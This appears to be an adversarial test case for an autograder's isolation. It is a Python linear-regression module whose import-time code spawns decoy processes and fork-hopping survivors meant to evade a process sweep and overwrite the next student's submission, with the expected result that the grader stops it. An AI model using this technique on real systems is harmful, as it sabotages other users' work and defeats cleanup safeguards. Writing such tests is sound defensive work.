"""Attack: at import, start sixteen small processes that wait, idle, on a copy of the
worker's socket until the grader hangs up on it (the end of this submission), then
hop from pid to pid as fast as they can (each forks its successor and exits), so
that a sweep which lists /proc once and then kills what it listed misses them.
Sixty idle decoys, started first, sit before the hoppers in the sweep's list and
widen its window. A survivor waits for the next student's linear_model.py to be
staged and replaces it with an empty module.

Expected: the sweep between students ends every process of this submission; the
next student scores 100; no hopper is left after the batch.
"""

import os
import subprocess
import sys

import numpy as np

HOP = r"""
import os, select, sys, time

waiter = select.poll()
waiter.register(int(sys.argv[1]), select.POLLRDHUP)
waiter.poll()  # until the grader hangs up on the worker: this submission is over
os.close(int(sys.argv[1]))
started, emptied, target = time.monotonic(), False, "/submission/linear_model.py"
while time.monotonic() - started < 60:
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        continue
    if not os.path.exists(target):
        emptied = True
    elif emptied:
        with open(target + ".new", "w") as stream:
            stream.write('print("replaced by pid_hopper")\n')
        os.replace(target + ".new", target)
        os._exit(0)
"""
for _ in range(60):  # decoys: listed first, killed first, they widen the window
    subprocess.Popen(["/bin/sleep", "4545.5"], start_new_session=True)
grader_socket = next(
    fd
    for fd in range(3, 256)
    if os.path.exists(f"/proc/self/fd/{fd}")
    and os.readlink(f"/proc/self/fd/{fd}").startswith("socket:")
)
for _ in range(16):
    subprocess.Popen(
        [sys.executable, "-S", "-c", HOP, str(grader_socket)],
        env={},
        pass_fds=[grader_socket],
        start_new_session=True,
    )


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    x = np.asarray(x, dtype=float) if isinstance(x, (list, tuple)) else x
    return x * w + b


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
